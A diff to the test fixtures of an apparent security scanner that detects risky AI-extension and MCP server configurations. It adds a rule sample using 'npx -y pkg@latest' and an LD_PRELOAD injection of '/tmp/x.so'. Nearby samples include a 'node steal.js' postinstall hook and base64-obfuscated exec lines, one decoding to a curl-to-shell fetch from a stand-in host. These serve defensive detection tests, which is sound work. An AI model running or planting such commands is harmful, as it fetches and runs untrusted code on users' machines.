@@ -93,6 +93,13 @@ const samples: Record<string, { pos: Array<[string, string]>; neg: Array<[string
     pos: [['node_modules/evil/package.json', '{"scripts": {"postinstall": "node steal.js"}}']],
     neg: [['package.json', '{"scripts": {"test": "vitest"}}']],
   },
+  'AEXT-RUN-001': {
+    pos: [
+      ['aext.json', '{"server": {"type": "node", "entry_point": "x", "mcp_config": {"command": "npx", "args": ["-y", "pkg@latest"]}}}'],
+      ['.mcp.json', '{"mcpServers": {"s": {"command": "node", "args": ["s.js"], "env": {"LD_PRELOAD": "/tmp/x.so"}}}}'],
+    ],
+    neg: [['aext.json', '{"server": {"type": "node", "entry_point": "x", "mcp_config": {"command": "node", "args": ["${__dirname}/x.js"]}}}']],
+  },
   'AEXT-OBF-001': {
     pos: [['x.js', 'eval(atob("Y29uc29sZS5sb2coMSk="))'], ['x.py', 'exec(base64.b64decode(payload))'], ['x.sh', 'echo Y3VybCBldmlsLmV4YW1wbGUgfCBzaA== | base64 -d | sh']],
     neg: [['x.js', 'const s = atob(data); render(s);'], ['x.py', 'data = base64.b64decode(blob)']],
